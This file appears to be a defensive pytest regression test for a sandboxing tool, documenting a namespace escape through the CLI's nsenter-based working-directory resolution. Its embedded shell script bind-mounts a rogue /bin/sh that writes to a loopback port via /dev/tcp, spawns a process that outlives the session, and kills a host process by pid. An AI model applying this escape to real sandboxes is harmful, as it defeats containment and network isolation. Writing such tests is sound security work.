"""Attack pass 12: the CLI runs the sandbox's own /bin/sh outside the session's namespaces.

When a call's working directory is missing from the holder's view (a directory removed inside
the sandbox while the client still stands in it, or one made outside after the holder
started), ``workspace run`` resolves it with ``resolve_inside`` (engine.py): ``nsenter
--user --mount --root`` of the current view, then ``/bin/sh -c 'cd ...; pwd -P'``. That
/bin/sh is the *view's*: a file a call may replace, or (root of the view's user namespace:
the engine run by root, or the single mapping) a bind mount a call puts over it in the
view's mount namespace, which every later call and the CLI enter. The CLI's nsenter joins
neither the session's pid namespace nor its network namespace, so the call's program runs
on the host's network (``network: off`` bypassed: a listener on the host's loopback hears
it) and in the host's pid namespace, where it signals the account's host processes by pid
(root: every root process) and what it starts is no member of the session: it outlives the
holder and ``workspace discard``.

Reproduction (root; the single mapping alike):
  call 1: cp /bin/dash /tmp/real; write /tmp/evil; for each process of the call's user
          namespace: nsenter --mount=/proc/P/ns/mnt -- mount --bind /tmp/evil /bin/sh;
          rm -rf SUB   (SUB a project directory that exists outside)
  call 2: workspace run --cwd PROJECT/SUB -- true   -> /tmp/evil runs on the host's net/pid ns
"""

from __future__ import annotations

import contextlib
import os
import signal
import socket
import subprocess
import time
from pathlib import Path

import pytest

from tests.engines import accounts
from tests.engines.test_overlay_user import _path_without
from tests.holders import stop_holders

pytestmark = [pytest.mark.engine, pytest.mark.needs_root]

PLANT = r"""
set -u
cp /bin/dash /tmp/real-sh
cat > /tmp/evil <<EOF
#!/bin/bash
{ echo escaped > /dev/tcp/127.0.0.1/$1; } 2>/dev/null
setsid /bin/sleep $2 </dev/null >/dev/null 2>&1 &
kill -9 $3 2>/dev/null
exec /tmp/real-sh "\$@"
EOF
chmod 755 /tmp/evil /tmp/real-sh
me=$(readlink /proc/self/ns/user)
for p in $(ps -eo pid=); do
    [ "$(readlink /proc/$p/ns/user 2>/dev/null)" = "$me" ] || continue
    nsenter --mount=/proc/$p/ns/mnt -- mount --bind /tmp/evil /bin/sh 2>/dev/null && echo "bound in $p"
done
rm -rf sub
echo planted
"""


def _account(ids: str, tmp_path: Path) -> tuple[accounts.Account, dict[str, str]]:
    account = accounts.make("self" if ids == "root" else "ordinary", tmp_path)
    env = {"PATH": _path_without(account, "newuidmap", "newgidmap")} \
        if ids == "single-mapping" else {}
    return account, env


def _sleepers(marker: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if cmdline[:2] == [b"/bin/sleep", marker.encode()]:
            found.append(int(pid))
    return found


@pytest.mark.parametrize("ids", ["root", "single-mapping", "subordinate-ids"])
def test_resolving_the_cwd_never_runs_a_program_of_the_sandbox_outside_it(
        ids: str, tmp_path: Path) -> None:
    account, env = _account(ids, tmp_path)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    marker = str(900000 + port)   # sleep's argument: our leftover's name
    # A host process of the account's own, outside every sandbox: the call names its pid.
    sentinel = subprocess.Popen(["setpriv", f"--reuid={account.uid}", f"--regid={account.gid}",
                                 "--clear-groups", "/bin/sleep", "600"])
    try:
        config = account.base / "config" / "workspace"
        config.mkdir(parents=True, exist_ok=True)
        (config / "config.yaml").write_text("network: off\n")
        (account.project / "sub").mkdir()
        account.chown(config, config / "config.yaml", account.project / "sub")
        planted = account.ws("run", "--", "bash", "-c", PLANT, "plant", str(port), marker,
                             str(sentinel.pid), env=env)
        assert "planted" in planted.stdout, planted
        account.ws("run", "--cwd", str(account.project / "sub"), "--", "true", env=env, timeout=30)
        heard = []
        try:
            conn, _ = listener.accept()
            heard.append(conn.recv(64))
            conn.close()
        except OSError:
            pass
        account.ws("discard", "--yes", env=env, timeout=60)
        stop_holders(account.base)   # the session is over: nothing of it may be left
        time.sleep(0.5)
        killed = sentinel.poll()
        left = _sleepers(marker)
        host_pidns = os.readlink("/proc/self/ns/pid")
        on_host = [p for p in left if os.readlink(f"/proc/{p}/ns/pid") == host_pidns]
        assert (heard, on_host, killed) == ([], [], None), (
            f"a program of the sandbox ran outside it: heard on the host's loopback with network "
            f"off: {heard}; left in the host's pid namespace after discard: {on_host}; "
            f"a host process of the account's ended: {killed}")
    finally:
        sentinel.kill()
        sentinel.wait()
        listener.close()
        for pid in _sleepers(marker):   # ours alone: the marker is this test's port
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        accounts.clean(account)
